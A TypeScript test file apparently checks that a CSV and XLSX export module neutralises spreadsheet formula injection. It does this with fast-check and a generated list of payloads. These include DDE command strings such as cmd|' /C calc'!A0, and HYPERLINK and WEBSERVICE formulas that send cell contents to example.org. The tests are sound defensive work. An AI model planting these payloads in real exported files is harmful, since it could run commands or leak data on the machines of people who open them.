import fc from "fast-check";
import { parse } from "csv-parse/sync";
import { readSheet } from "read-excel-file/node";
import { describe, expect, test } from "vitest";
import { cleanCell } from "../rules/clean-cell.ts";
import { safeCsvText, writeCsv, writeXlsx } from "./safe-cells.ts";

const starts = ["=", "+", "-", "@", "|", "%", "\t", "\r", "＝", "＋", "－", "＠"];
const befores = ["", " ", "  ", "\ufeff", "\u200b", "\u00a0", "\n", "\t", "\u0001", "'", "''"];
const bodies = ["cmd|' /C calc'!A0", "HYPERLINK(\"http://example.org/?x=\"&A1,\"ดู\")", "1+1", "SUM(A1:A9)*cmd|'/c x'!A1", "66812345678", "WEBSERVICE(\"http://example.org\")", "DDE(\"a\";\"b\")"];
const payloads = befores.flatMap((before) => starts.flatMap((start) => bodies.map((body) => `${before}${start}${body}`))).filter((text) => !/^-\d+$/.test(text)); // a plain negative number is harmless

/** What a spreadsheet sees at the beginning of a cell, once it has passed over what it ignores. */
const firstSign = (text: string): string => text.replace(/^[\s\u0000-\u001f\u00a0\u200b-\u200f\ufeff]+/, "").charAt(0); // oxlint-disable-line no-control-regex -- these are the signs passed over

const readCells = (file: Uint8Array): string[][] => parse(Buffer.from(file), { bom: true });

describe("CSV", () => {
  test(`none of ${payloads.length} formula texts stays a formula`, () => {
    expect(payloads.length).toBeGreaterThanOrEqual(200);
    for (const payload of payloads) {
      const [[cell = ""] = []] = readCells(writeCsv([[payload]]));
      expect(firstSign(cell), JSON.stringify(payload)).toBe("'");
    }
  });

  test("no text at all begins like a formula after writing", () => {
    const text = fc.oneof(fc.string({ unit: "grapheme" }), fc.tuple(fc.constantFrom(...befores), fc.constantFrom(...starts), fc.string()).map((parts) => parts.join("")));
    fc.assert(
      fc.property(text, (value) => {
        const safe = safeCsvText(value);
        if (!/^-?\d+(\.\d+)?$/.test(safe)) expect(starts).not.toContain(firstSign(safe));
      }),
      { numRuns: 2000 },
    );
  });

  test("reading takes the mark off again, also from text that had a mark of its own", () => {
    for (const text of ["+66812345678", "=ชื่อ", "-", "'+66", "''=1", "@line", "-5", "O'Brien", "'quoted'", "ปกติ"]) expect(cleanCell(safeCsvText(text)).text).toBe(text);
  });

  test("numbers below zero stay numbers, phone numbers with + become text", () => {
    expect(safeCsvText("-8.5")).toBe("-8.5");
    expect(safeCsvText("+66812345678")).toBe("'+66812345678");
  });
});

describe("XLSX", () => {
  test("every payload comes back as the very text, and no cell is a formula", async () => {
    const texts = payloads;
    const file = await writeXlsx([{ name: "ทดสอบ", headerRows: 0, rows: texts.map((text) => ["x", text]) }]);
    const rows = await readSheet(Buffer.from(file), { trim: false });
    expect(rows.map((row) => row[1])).toEqual(texts);
  });

  test("leading zeros, long numbers and +66 stay text", async () => {
    const texts = ["0012345", "1234567890123", "+66812345678", "00", "1e5", "TRUE", "2026-11-21", "_x0041_"];
    const file = await writeXlsx([{ name: "a", headerRows: 0, rows: [texts] }]);
    const [row] = await readSheet(Buffer.from(file));
    expect(row).toEqual(texts);
  });
});
